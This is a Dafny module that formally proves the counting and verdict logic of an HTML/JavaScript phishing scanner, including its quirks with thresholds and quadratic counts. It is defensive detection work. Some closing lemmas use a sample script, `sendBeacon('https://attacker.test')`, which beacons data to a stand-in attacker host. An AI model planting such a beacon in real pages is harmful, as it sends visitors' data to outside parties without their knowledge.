/** The counting and verdict part of `HtmlJs.scan`, run over an already fetched and parsed page.

    The page is given as its tags in document order, each with its attribute map and the
    `.string` BeautifulSoup would report for it; the HTTP request is given by its outcome.
    The pure functions below (`EventElements`, `EventRisk`, `ScriptRisk`, `Verdict`) specify
    what the loops of `scan` compute; the methods run those loops and are proved against them. */
module HtmlJsScan {
  import opened Optional
  import opened UrlExtract
  import opened Domains

  /** One tag of the parsed page: its name, its attributes and its `.string`
      (the single text child, or None). */
  datatype Tag = Tag(name: string, attrs: map<string, string>, text: Option<string>)

  /** The outcome of the request for the page: any RequestException, or the HTML text parsed
      into its tags. */
  datatype Response = RequestFailed | Html(tags: seq<Tag>)

  /** The inline event-handler attributes the scan recognizes, in the order it tries them. */
  const EventAttrs: seq<string> := ["onclick", "onmouseover", "onload", "onfocus"]

  // ---------------------------------------------------------------------------------------
  // Surfaces: which tags the scan looks at, and how often.

  /** How many of the names in attrs tag t carries, whatever the values (empty ones included). */
  function Carried(t: Tag, attrs: seq<string>): (n: nat)
    ensures n <= |attrs|
    decreases |attrs|
  {
    if attrs == [] then 0
    else Carried(t, attrs[..|attrs| - 1]) + (if attrs[|attrs| - 1] in t.attrs then 1 else 0)
  }

  /** The sum of Carried over all tags. */
  function SumCarried(tags: seq<Tag>, attrs: seq<string>): nat
    decreases |tags|
  {
    if tags == [] then 0 else Carried(tags[0], attrs) + SumCarried(tags[1..], attrs)
  }

  /** `soup.find_all(attrs={a: True})`: the tags carrying attribute a, in document order. */
  function WithAttr(tags: seq<Tag>, a: string): (r: seq<Tag>)
    ensures forall t :: t in r <==> t in tags && a in t.attrs
    ensures forall t :: multiset(r)[t] == if a in t.attrs then multiset(tags)[t] else 0
    decreases |tags|
  {
    if tags == [] then []
    else
      assert tags == [tags[0]] + tags[1..];
      (if a in tags[0].attrs then [tags[0]] else []) + WithAttr(tags[1..], a)
  }

  /** The list `elements_with_events` after extending it with `find_all` for each name in attrs:
      every occurrence of a tag in the page is listed once per name in attrs that it carries. */
  function Listed(tags: seq<Tag>, attrs: seq<string>): (r: seq<Tag>)
    ensures forall t :: t in r ==> t in tags
    ensures forall t :: multiset(r)[t] == Carried(t, attrs) * multiset(tags)[t]
    decreases |attrs|
  {
    if attrs == [] then []
    else
      var listed := Listed(tags, attrs[..|attrs| - 1]);
      var found := WithAttr(tags, attrs[|attrs| - 1]);
      ListedStep(tags, attrs, listed, found);
      listed + found
  }

  /** Extending the list with one more `find_all` adds each tag's occurrences once more exactly
      when it carries that name. */
  lemma ListedStep(tags: seq<Tag>, attrs: seq<string>, listed: seq<Tag>, found: seq<Tag>)
    requires attrs != []
    requires forall t :: multiset(listed)[t] == Carried(t, attrs[..|attrs| - 1]) * multiset(tags)[t]
    requires forall t :: multiset(found)[t] == if attrs[|attrs| - 1] in t.attrs then multiset(tags)[t] else 0
    ensures forall t :: multiset(listed + found)[t] == Carried(t, attrs) * multiset(tags)[t]
  {
    assert multiset(listed + found) == multiset(listed) + multiset(found);
    var init, a := attrs[..|attrs| - 1], attrs[|attrs| - 1];
    forall t ensures multiset(listed + found)[t] == Carried(t, attrs) * multiset(tags)[t] {
      assert Carried(t, attrs) == Carried(t, init) + (if a in t.attrs then 1 else 0);
      CountStep(Carried(t, init), multiset(tags)[t], a in t.attrs, multiset(listed)[t], multiset(found)[t]);
    }
  }

  lemma CountStep(c: nat, m: nat, b: bool, x: nat, y: nat)
    requires x == c * m && y == (if b then m else 0)
    ensures x + y == (c + (if b then 1 else 0)) * m
  {
  }

  /** `elements_with_events`: the tags carrying a recognized attribute, each listed once per
      recognized attribute it carries. */
  function EventElements(tags: seq<Tag>): (r: seq<Tag>)
    ensures forall t :: t in r <==> t in tags && Carried(t, EventAttrs) > 0
    ensures forall t :: multiset(r)[t] == Carried(t, EventAttrs) * multiset(tags)[t]
    ensures |r| == SumCarried(tags, EventAttrs)
  {
    ListedMembers(tags, EventAttrs);
    ListedLength(tags, EventAttrs);
    Listed(tags, EventAttrs)
  }

  /** `soup.find_all("script")`: every script tag, whether or not it has inline text, as often
      as it occurs. */
  function Scripts(tags: seq<Tag>): (r: seq<Tag>)
    ensures forall t :: t in r <==> t in tags && t.name == "script"
    ensures forall t :: multiset(r)[t] == if t.name == "script" then multiset(tags)[t] else 0
    decreases |tags|
  {
    if tags == [] then []
    else
      assert tags == [tags[0]] + tags[1..];
      (if tags[0].name == "script" then [tags[0]] else []) + Scripts(tags[1..])
  }

  /** `total_elements`: per tag, how many of the four recognized attributes it carries (empty
      values included), plus every script tag (with or without inline text). */
  function TotalSurfaces(tags: seq<Tag>): (r: nat)
    ensures r == SumCarried(tags, EventAttrs) + |Scripts(tags)|
  {
    |EventElements(tags)| + |Scripts(tags)|
  }

  lemma {:induction false} WithAttrLength(tags: seq<Tag>, a: string)
    ensures |WithAttr(tags, a)| == SumCarried(tags, [a])
    decreases |tags|
  {
    if tags != [] {
      WithAttrLength(tags[1..], a);
      assert [a][..0] == [];
    }
  }

  lemma {:induction false} SumCarriedSnoc(tags: seq<Tag>, attrs: seq<string>, a: string)
    ensures SumCarried(tags, attrs + [a]) == SumCarried(tags, attrs) + SumCarried(tags, [a])
    decreases |tags|
  {
    if tags != [] {
      SumCarriedSnoc(tags[1..], attrs, a);
      assert (attrs + [a])[..|attrs|] == attrs;
      assert [a][..0] == [];
    }
  }

  /** Each tag is listed once for every recognized attribute it carries. */
  lemma {:induction false} ListedLength(tags: seq<Tag>, attrs: seq<string>)
    ensures |Listed(tags, attrs)| == SumCarried(tags, attrs)
    decreases |attrs|
  {
    if attrs == [] {
      SumCarriedEmpty(tags);
    } else {
      var init, a := attrs[..|attrs| - 1], attrs[|attrs| - 1];
      assert attrs == init + [a];
      ListedLength(tags, init);
      WithAttrLength(tags, a);
      SumCarriedSnoc(tags, init, a);
    }
  }

  lemma {:induction false} SumCarriedEmpty(tags: seq<Tag>)
    ensures SumCarried(tags, []) == 0
    decreases |tags|
  {
    if tags != [] {
      SumCarriedEmpty(tags[1..]);
    }
  }

  /** Carried over the four recognized names, written out. */
  lemma CarriedEvents(t: Tag)
    ensures Carried(t, EventAttrs) ==
      (if "onclick" in t.attrs then 1 else 0) + (if "onmouseover" in t.attrs then 1 else 0)
      + (if "onload" in t.attrs then 1 else 0) + (if "onfocus" in t.attrs then 1 else 0)
  {
    var a3, a2, a1 := EventAttrs[..3], EventAttrs[..2], EventAttrs[..1];
    assert a3[..2] == a2 && a2[..1] == a1 && a1[..0] == [];
    assert Carried(t, a1) == (if "onclick" in t.attrs then 1 else 0);
    assert Carried(t, a2) == Carried(t, a1) + (if "onmouseover" in t.attrs then 1 else 0);
    assert Carried(t, a3) == Carried(t, a2) + (if "onload" in t.attrs then 1 else 0);
  }

  /** A tag is listed exactly when it carries one of the names. */
  lemma {:induction false} ListedMembers(tags: seq<Tag>, attrs: seq<string>)
    ensures forall t :: t in Listed(tags, attrs) <==> t in tags && Carried(t, attrs) > 0
    decreases |attrs|
  {
    if attrs != [] {
      ListedMembers(tags, attrs[..|attrs| - 1]);
    }
  }

  // ---------------------------------------------------------------------------------------
  // Risk: which surfaces are counted as risky, and how many times.

  /** `el.get(attr, '')`: the attribute's value when the tag carries it, the empty string
      otherwise. */
  function AttrValue(t: Tag, a: string): (v: string)
    ensures v != "" ==> a in t.attrs
  {
    if a in t.attrs then t.attrs[a] else ""
  }

  /** Whether some URL in the list is external to the page. */
  function AnyExternal(extract: string -> DomainParts, baseUrl: string, urls: seq<string>): (r: bool)
    ensures r <==> exists k :: 0 <= k < |urls| && IsExternalDomain(extract, baseUrl, urls[k])
    decreases |urls|
  {
    if urls == [] then false
    else IsExternalDomain(extract, baseUrl, urls[0]) || AnyExternal(extract, baseUrl, urls[1..])
  }

  /** What one piece of JavaScript adds to a risky counter: 1 when it is non-empty and one of
      the URLs extracted from it is external (the loop breaks at the first), otherwise 0. */
  function SurfaceRisk(extract: string -> DomainParts, baseUrl: string, js: string): (r: nat)
    ensures r <= 1
    ensures r == 1 <==> js != "" && exists u :: u in ExtractUrls(js) && IsExternalDomain(extract, baseUrl, u)
  {
    if js == "" then 0
    else if AnyExternal(extract, baseUrl, ExtractUrls(js)) then 1
    else 0
  }

  /** What one entry of `elements_with_events` adds to `risky_count`: every name in attrs is
      checked again, whichever attribute got the element listed. */
  function ElementRisk(extract: string -> DomainParts, baseUrl: string, t: Tag, attrs: seq<string>): (r: nat)
    ensures r <= |attrs|
    decreases |attrs|
  {
    if attrs == [] then 0
    else ElementRisk(extract, baseUrl, t, attrs[..|attrs| - 1])
         + SurfaceRisk(extract, baseUrl, AttrValue(t, attrs[|attrs| - 1]))
  }

  /** `risky_count` after the loop over `elements_with_events`. */
  function EventRisk(extract: string -> DomainParts, baseUrl: string, els: seq<Tag>): (r: nat)
    ensures r <= |EventAttrs| * |els|
    decreases |els|
  {
    if els == [] then 0
    else EventRisk(extract, baseUrl, els[..|els| - 1])
         + ElementRisk(extract, baseUrl, els[|els| - 1], EventAttrs)
  }

  /** What one script tag adds to `script_risky_count`: nothing when its `.string` is None or
      empty. */
  function ScriptTagRisk(extract: string -> DomainParts, baseUrl: string, t: Tag): (r: nat)
    ensures r <= 1
    ensures t.text.None? || t.text == Some("") ==> r == 0
  {
    match t.text
    case None => 0
    case Some(js) => SurfaceRisk(extract, baseUrl, js)
  }

  /** `script_risky_count` after the loop over the script tags. */
  function ScriptRisk(extract: string -> DomainParts, baseUrl: string, scripts: seq<Tag>): (r: nat)
    ensures r <= |scripts|
    decreases |scripts|
  {
    if scripts == [] then 0
    else ScriptRisk(extract, baseUrl, scripts[..|scripts| - 1])
         + ScriptTagRisk(extract, baseUrl, scripts[|scripts| - 1])
  }

  /** `total_risky`: at most one per (listed element, recognized name) pair and one per script. */
  function TotalRisky(extract: string -> DomainParts, baseUrl: string, tags: seq<Tag>): (r: nat)
    ensures r <= 4 * |EventElements(tags)| + |Scripts(tags)|
  {
    EventRisk(extract, baseUrl, EventElements(tags)) + ScriptRisk(extract, baseUrl, Scripts(tags))
  }

  /** The value `scan` returns. The percentage and its 20% threshold play no part: the page is
      reported exactly when the request succeeded and at least one risky surface was counted
      (with no surface at all, nothing can be risky). */
  function Verdict(extract: string -> DomainParts, inputUrl: string, response: Response): (phishing: bool)
    ensures phishing <==> response.Html? && TotalRisky(extract, inputUrl, response.tags) > 0
  {
    match response
    case RequestFailed => false
    case Html(tags) =>
      if TotalSurfaces(tags) == 0 then false
      else TotalRisky(extract, inputUrl, tags) > 0
  }

  // ---------------------------------------------------------------------------------------
  // The loops of `scan`.

  /** The `extend` loop of `scan`: extend `elements_with_events` with `find_all` for each recognized name. */
  method CollectEventElements(tags: seq<Tag>) returns (elementsWithEvents: seq<Tag>)
    ensures elementsWithEvents == EventElements(tags)
    ensures |elementsWithEvents| == SumCarried(tags, EventAttrs)
  {
    elementsWithEvents := [];
    for i := 0 to |EventAttrs|
      invariant elementsWithEvents == Listed(tags, EventAttrs[..i])
    {
      assert EventAttrs[..i + 1][..i] == EventAttrs[..i];
      elementsWithEvents := elementsWithEvents + WithAttr(tags, EventAttrs[i]);
    }
    assert EventAttrs[..|EventAttrs|] == EventAttrs;
    ListedLength(tags, EventAttrs);
  }

  /** The inner loop shared by both counters: walk the extracted URLs and stop at the first
      external one. */
  method HasExternalUrl(extract: string -> DomainParts, baseUrl: string, urls: seq<string>)
    returns (found: bool)
    ensures found == AnyExternal(extract, baseUrl, urls)
  {
    found := false;
    for k := 0 to |urls|
      invariant forall m :: 0 <= m < k ==> !IsExternalDomain(extract, baseUrl, urls[m])
    {
      if IsExternalDomain(extract, baseUrl, urls[k]) {
        found := true;
        break;
      }
    }
  }

  /** One more recognized name checked adds that attribute's risk. */
  lemma ElementRiskStep(extract: string -> DomainParts, baseUrl: string, t: Tag, n: nat)
    requires n < |EventAttrs|
    ensures ElementRisk(extract, baseUrl, t, EventAttrs[..n + 1])
         == ElementRisk(extract, baseUrl, t, EventAttrs[..n]) + SurfaceRisk(extract, baseUrl, AttrValue(t, EventAttrs[n]))
  {
    assert EventAttrs[..n + 1][..n] == EventAttrs[..n];
  }

  /** The body of the loop over `elements_with_events` in `scan`: what one listed element adds to `risky_count`. */
  method CountElementRisk(extract: string -> DomainParts, baseUrl: string, el: Tag) returns (added: nat)
    ensures added == ElementRisk(extract, baseUrl, el, EventAttrs)
  {
    added := 0;
    for n := 0 to |EventAttrs|
      invariant added == ElementRisk(extract, baseUrl, el, EventAttrs[..n])
    {
      var attr := EventAttrs[n];
      var jsCode := AttrValue(el, attr);
      ElementRiskStep(extract, baseUrl, el, n);
      if jsCode == "" {
        continue;
      }
      var urls := ExtractUrls(jsCode);
      var external := HasExternalUrl(extract, baseUrl, urls);
      if external {
        added := added + 1;
      }
    }
    assert EventAttrs[..|EventAttrs|] == EventAttrs;
  }

  /** The nested loops over `elements_with_events` in `scan`: for every listed element and every recognized name, count the element once
      if the attribute's JavaScript names an external URL. */
  method CountEventRisk(extract: string -> DomainParts, baseUrl: string, elementsWithEvents: seq<Tag>)
    returns (riskyCount: nat)
    ensures riskyCount == EventRisk(extract, baseUrl, elementsWithEvents)
  {
    riskyCount := 0;
    for i := 0 to |elementsWithEvents|
      invariant riskyCount == EventRisk(extract, baseUrl, elementsWithEvents[..i])
    {
      var added := CountElementRisk(extract, baseUrl, elementsWithEvents[i]);
      riskyCount := riskyCount + added;
      assert elementsWithEvents[..i + 1][..i] == elementsWithEvents[..i];
    }
    assert elementsWithEvents[..|elementsWithEvents|] == elementsWithEvents;
  }

  /** The `<script>` loop of `scan`: count every script tag whose `.string` is non-empty and names an external URL. */
  method CountScriptRisk(extract: string -> DomainParts, baseUrl: string, scriptTags: seq<Tag>)
    returns (scriptRiskyCount: nat)
    ensures scriptRiskyCount == ScriptRisk(extract, baseUrl, scriptTags)
  {
    scriptRiskyCount := 0;
    for i := 0 to |scriptTags|
      invariant scriptRiskyCount == ScriptRisk(extract, baseUrl, scriptTags[..i])
    {
      var script := scriptTags[i];
      assert scriptTags[..i + 1][..i] == scriptTags[..i];
      if script.text.Some? && script.text.value != "" {
        var jsCode := script.text.value;
        var urls := ExtractUrls(jsCode);
        var external := HasExternalUrl(extract, baseUrl, urls);
        if external {
          scriptRiskyCount := scriptRiskyCount + 1;
        }
      }
    }
    assert scriptTags[..|scriptTags|] == scriptTags;
  }

  /** `scan` from the request's outcome on: collect the surfaces, count the risky ones, decide. */
  method Scan(extract: string -> DomainParts, inputUrl: string, response: Response) returns (phishing: bool)
    ensures phishing == Verdict(extract, inputUrl, response)
    ensures phishing <==> response.Html? && TotalRisky(extract, inputUrl, response.tags) > 0
  {
    if response.RequestFailed? {
      return false;
    }
    var baseUrl := inputUrl;
    var elementsWithEvents := CollectEventElements(response.tags);
    var riskyCount := CountEventRisk(extract, baseUrl, elementsWithEvents);
    var scriptTags := Scripts(response.tags);
    var scriptRiskyCount := CountScriptRisk(extract, baseUrl, scriptTags);
    var totalRisky := riskyCount + scriptRiskyCount;
    var totalElements := |elementsWithEvents| + |scriptTags|;
    if totalElements == 0 {
      return false;
    }
    phishing := totalRisky > 0;
  }

  // ---------------------------------------------------------------------------------------
  // Consequences.

  /** The risky counters are bounded per entry: at most one per (listed element, recognized
      name) pair and at most one per script tag. */
  lemma RiskBounds(extract: string -> DomainParts, baseUrl: string, tags: seq<Tag>)
    ensures EventRisk(extract, baseUrl, EventElements(tags)) <= 4 * |EventElements(tags)|
    ensures ScriptRisk(extract, baseUrl, Scripts(tags)) <= |Scripts(tags)|
  {
  }

  /** A page without any recognized event attribute and without script tags has no surface
      and is not reported. */
  lemma {:induction false} NoSurfacePage(extract: string -> DomainParts, inputUrl: string, tags: seq<Tag>)
    requires forall t :: t in tags ==> t.name != "script" && Carried(t, EventAttrs) == 0
    ensures TotalSurfaces(tags) == 0 && !Verdict(extract, inputUrl, Html(tags))
    decreases |tags|
  {
    if tags != [] {
      NoSurfacePage(extract, inputUrl, tags[1..]);
      assert tags[0] in tags;
    }
  }

  /** Every listed entry of an element that is risky under each name it carries adds all of
      them again: the element's risk equals the number of recognized names it carries. */
  lemma {:induction false} ElementRiskAllRisky(extract: string -> DomainParts, baseUrl: string, t: Tag, attrs: seq<string>)
    requires forall a :: a in attrs && a in t.attrs ==> SurfaceRisk(extract, baseUrl, AttrValue(t, a)) == 1
    ensures ElementRisk(extract, baseUrl, t, attrs) == Carried(t, attrs)
    decreases |attrs|
  {
    if attrs != [] {
      var init := attrs[..|attrs| - 1];
      assert forall a :: a in init ==> a in attrs;
      ElementRiskAllRisky(extract, baseUrl, t, init);
    }
  }

  /** A name the tag does not carry reads as the empty string and adds nothing, so one listing
      adds at most the number of recognized names the tag carries. */
  lemma {:induction false} ElementRiskAtMostCarried(extract: string -> DomainParts, baseUrl: string, t: Tag, attrs: seq<string>)
    ensures ElementRisk(extract, baseUrl, t, attrs) <= Carried(t, attrs)
    decreases |attrs|
  {
    if attrs != [] {
      ElementRiskAtMostCarried(extract, baseUrl, t, attrs[..|attrs| - 1]);
    }
  }

  lemma {:induction false} EventRiskCopies(extract: string -> DomainParts, baseUrl: string, els: seq<Tag>, t: Tag)
    requires forall k :: 0 <= k < |els| ==> els[k] == t
    ensures EventRisk(extract, baseUrl, els) == |els| * ElementRisk(extract, baseUrl, t, EventAttrs)
    decreases |els|
  {
    if els != [] {
      var init := els[..|els| - 1];
      var e := ElementRisk(extract, baseUrl, t, EventAttrs);
      EventRiskCopies(extract, baseUrl, init, t);
      assert EventRisk(extract, baseUrl, els) == |init| * e + e;
      assert |init| * e + e == (|init| + 1) * e;
    }
  }

  /** `risky_count` grows with the square of an element's recognized attributes while
      `total_elements` grows linearly: a lone non-script element carrying k recognized attributes,
      each naming an external URL, gives k surfaces and k * k risky counts. */
  lemma RepeatedElementQuadratic(extract: string -> DomainParts, baseUrl: string, t: Tag)
    requires t.name != "script"
    requires forall a :: a in EventAttrs && a in t.attrs ==> SurfaceRisk(extract, baseUrl, AttrValue(t, a)) == 1
    ensures TotalSurfaces([t]) == Carried(t, EventAttrs)
    ensures TotalRisky(extract, baseUrl, [t]) == Carried(t, EventAttrs) * Carried(t, EventAttrs)
  {
    LoneTagListed(t);
    EventRiskCopies(extract, baseUrl, EventElements([t]), t);
    ElementRiskAllRisky(extract, baseUrl, t, EventAttrs);
    assert Scripts([t]) == [];
  }

  /** The square is also the most a lone element can score: k recognized attributes give at
      most k * k risky counts, whatever their values. */
  lemma SingleElementRiskAtMostSquare(extract: string -> DomainParts, baseUrl: string, t: Tag)
    requires t.name != "script"
    ensures TotalRisky(extract, baseUrl, [t]) <= Carried(t, EventAttrs) * Carried(t, EventAttrs)
  {
    LoneTagListed(t);
    EventRiskCopies(extract, baseUrl, EventElements([t]), t);
    ElementRiskAtMostCarried(extract, baseUrl, t, EventAttrs);
    MulBound(Carried(t, EventAttrs), ElementRisk(extract, baseUrl, t, EventAttrs));
    assert Scripts([t]) == [];
  }

  /** A page of one tag lists that tag once per recognized attribute it carries. */
  lemma LoneTagListed(t: Tag)
    ensures |EventElements([t])| == Carried(t, EventAttrs)
    ensures forall m :: 0 <= m < |EventElements([t])| ==> EventElements([t])[m] == t
  {
    var els := EventElements([t]);
    assert SumCarried([t], EventAttrs) == Carried(t, EventAttrs);
    forall m | 0 <= m < |els| ensures els[m] == t {
      assert els[m] in els;
    }
  }

  lemma MulBound(k: nat, e: nat)
    requires e <= k
    ensures k * e <= k * k
  {
  }

  /** JavaScript holding exactly one quoted URL literal, and nothing else quoted, is risky exactly
      when that URL is external. */
  lemma EmbeddedUrlRisk(extract: string -> DomainParts, baseUrl: string,
                        pre: string, open: char, u: string, close: char, post: string)
    requires IsQuote(open) && IsQuote(close) && IsUrlLiteral(u)
    requires forall q :: 0 <= q < |pre| ==> !IsQuote(pre[q])
    requires forall q :: 0 <= q < |post| ==> !IsQuote(post[q])
    ensures SurfaceRisk(extract, baseUrl, pre + [open] + u + [close] + post) == 1
            <==> IsExternalDomain(extract, baseUrl, u)
  {
    ExtractEmbedded(pre, open, u, close, post);
  }

  /** `risky_count` is not bounded by `total_elements`: one anchor with two handlers that each
      name an external URL is two surfaces and four risky counts. */
  lemma RiskyCanExceedTotal(extract: string -> DomainParts, baseUrl: string)
    requires IsExternalDomain(extract, baseUrl, "http://x")
    ensures var t := Tag("a", map["onclick" := "'http://x'", "onload" := "'http://x'"], None);
            TotalSurfaces([t]) == 2 && TotalRisky(extract, baseUrl, [t]) == 4
  {
    var t := Tag("a", map["onclick" := "'http://x'", "onload" := "'http://x'"], None);
    QuotedXIsRisky(extract, baseUrl);
    forall a | a in EventAttrs && a in t.attrs
      ensures SurfaceRisk(extract, baseUrl, AttrValue(t, a)) == 1
    {
      assert AttrValue(t, a) == "'http://x'";
    }
    CarriedEvents(t);
    assert Carried(t, EventAttrs) == 2;
    RepeatedElementQuadratic(extract, baseUrl, t);
    assert TotalRisky(extract, baseUrl, [t]) == 2 * 2;
  }

  lemma QuotedXIsRisky(extract: string -> DomainParts, baseUrl: string)
    requires IsExternalDomain(extract, baseUrl, "http://x")
    ensures SurfaceRisk(extract, baseUrl, "'http://x'") == 1
  {
    var u := "http://x";
    assert u[..7] == "http://" && AllInUrlClass(u[7..]);
    EmbeddedUrlRisk(extract, baseUrl, "", '\'', u, '\'', "");
    QuotedXText();
  }

  lemma QuotedXText()
    ensures "" + ['\''] + "http://x" + ['\''] + "" == "'http://x'"
  {
  }

  lemma AttackerUrlIsLiteral()
    ensures IsUrlLiteral("https://attacker.test")
  {
    var u := "https://attacker.test";
    assert u[..8] == "https://";
    assert AllInUrlClass(u[8..]);
  }

  lemma BeaconText()
    ensures "sendBeacon(" + ['\''] + "https://attacker.test" + ['\''] + ")" == "sendBeacon('https://attacker.test')"
  {
  }

  /** A page made of one script tag without event attributes has that script as its only
      surface, and its risk is the script's. */
  lemma SingleScriptPage(extract: string -> DomainParts, baseUrl: string, t: Tag)
    requires t.name == "script" && Carried(t, EventAttrs) == 0
    ensures TotalSurfaces([t]) == 1
    ensures TotalRisky(extract, baseUrl, [t]) == ScriptTagRisk(extract, baseUrl, t)
  {
    ListedLength([t], EventAttrs);
    assert EventElements([t]) == [];
    assert Scripts([t]) == [t];
    assert [t][..0] == [];
  }

  lemma BeaconIsRisky(extract: string -> DomainParts, baseUrl: string)
    requires IsExternalDomain(extract, baseUrl, "https://attacker.test")
    ensures SurfaceRisk(extract, baseUrl, "sendBeacon('https://attacker.test')") == 1
  {
    var u := "https://attacker.test";
    AttackerUrlIsLiteral();
    EmbeddedUrlRisk(extract, baseUrl, "sendBeacon(", '\'', u, '\'', ")");
    BeaconText();
  }

  /** A page whose only surface is one script sending a beacon to an external host: one surface,
      one risky count, reported. */
  lemma BeaconScriptExample(extract: string -> DomainParts, baseUrl: string)
    requires IsExternalDomain(extract, baseUrl, "https://attacker.test")
    ensures var t := Tag("script", map[], Some("sendBeacon('https://attacker.test')"));
            && TotalSurfaces([t]) == 1 && TotalRisky(extract, baseUrl, [t]) == 1
            && Verdict(extract, baseUrl, Html([t]))
  {
    var t := Tag("script", map[], Some("sendBeacon('https://attacker.test')"));
    BeaconIsRisky(extract, baseUrl);
    CarriedEvents(t);
    SingleScriptPage(extract, baseUrl, t);
  }
}
